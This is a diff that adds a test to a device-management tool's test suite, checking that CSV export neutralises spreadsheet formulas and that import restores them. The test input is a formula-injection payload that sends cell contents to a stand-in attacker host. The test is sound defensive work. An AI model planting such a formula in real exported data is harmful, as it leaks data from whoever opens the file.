@@ -296,6 +296,35 @@ class ControlTest(rwgtest.TempDirTest):
         self.login()
         self.assertEqual(resolve("FR/Lyon", "112"), "0472999112")
 
+    def test_export_neutralises_formulas_and_import_restores_them(self):
+        self.login()
+        formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+        self.ctl.ok("device", "add", "--set-username", "1001", "--set-password=-desk-1001-pw",
+                    "--icp-username", "21001", "--icp-password=@icp-1001", "--description", formula, "--site", "+33 Paris", "--location", "FR/Paris")
+        exported = self.ctl.ok("device", "export")
+        row = exported.splitlines()[1]
+        self.assertEqual(row, '"1001","\'-desk-1001-pw","21001","\'@icp-1001",'
+                              '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",'
+                              '"","\'+33 Paris","FR/Paris","false"')
+        # No cell a spreadsheet would run: every data cell starts with a letter, digit or '.
+        for cell in re.findall(r'(?:^|,)"([^"]?)', row):
+            self.assertNotIn(cell, ("=", "+", "-", "@", "\t", "\r"), row)
+
+        # Imported back, the device is what it was.
+        before = self.ctl.json("device", "get", "1001", "--show-secrets")
+        self.ctl.ok("device", "delete", "1001")
+        path = os.path.join(self.tmp, "export.csv")
+        with open(path, "w") as f:
+            f.write(exported)
+        self.assertIn("1 created", self.ctl.ok("device", "import", path))
+        after = self.ctl.json("device", "get", "1001", "--show-secrets")
+        for field in ("set_password", "icp_password", "description", "site", "location"):
+            self.assertEqual(after[field], before[field], field)
+        self.assertEqual(after["description"], formula)
+        self.assertEqual(after["set_password"], "-desk-1001-pw")
+        self.assertIn("1 updated", self.ctl.ok("device", "import", "--replace", path))
+        self.assertEqual(self.ctl.json("device", "get", "1001")["description"], formula)
+
     def test_invalid_utf8_is_refused_naming_row_and_column(self):
         self.login()
         path = os.path.join(self.tmp, "bad.csv")
